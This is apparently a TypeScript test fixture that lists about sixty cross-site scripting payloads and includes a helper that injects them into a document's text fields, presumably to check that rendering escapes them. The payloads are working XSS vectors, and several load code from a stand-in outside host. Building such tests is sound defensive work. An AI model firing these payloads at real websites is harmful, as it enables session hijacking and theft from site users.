/** Calls the spy of a page. */
const run = 'window.hit(1)'

/** Texts that would run in a page which put them where they are read as anything but text. */
export const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script src=//khac.example.vn/x.js></script>`,
  `<script type=module>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `"><img src=x onerror=${run}>`,
  `' onerror='${run}`,
  `" onfocus="${run}" autofocus="`,
  `" onmouseover="${run}`,
  `x" style="animation-name:x" onanimationstart="${run}`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.hit(1)</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe src="javascript:parent.hit(1)"></iframe>`,
  `<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}><option>x</select>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<a href="javascript:${run}">x</a>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  '<base href="//khac.example.vn/">',
  '<link rel=stylesheet href="//khac.example.vn/x.css">',
  '<style>@import "//khac.example.vn/x.css";</style>',
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<plaintext><script>${run}</script>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `[x](javascript:${run})`,
  `![x](x"onerror="${run})`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `'-${run}-'`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
]

/** Fields of a document that hold text, wherever they stand. */
const texts = new Set(
  'title label unit source evidence method dataSource verifier reason note number issuer set url code text'.split(' '),
)

/** A copy of a document with a payload in each of its texts, another one by each turn; `count` is how many there are. */
export function laced(document: unknown, turn: number): { document: unknown; count: number } {
  let count = 0
  const lace = (value: unknown, name: string): unknown => {
    if (Array.isArray(value)) return value.map((one) => lace(one, name))
    if (typeof value === 'object' && value !== null)
      return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, lace(one, key)]))
    if (typeof value !== 'string' || !texts.has(name)) return value
    return payloads[(turn + count++) % payloads.length]
  }
  return { document: lace(document, ''), count }
}
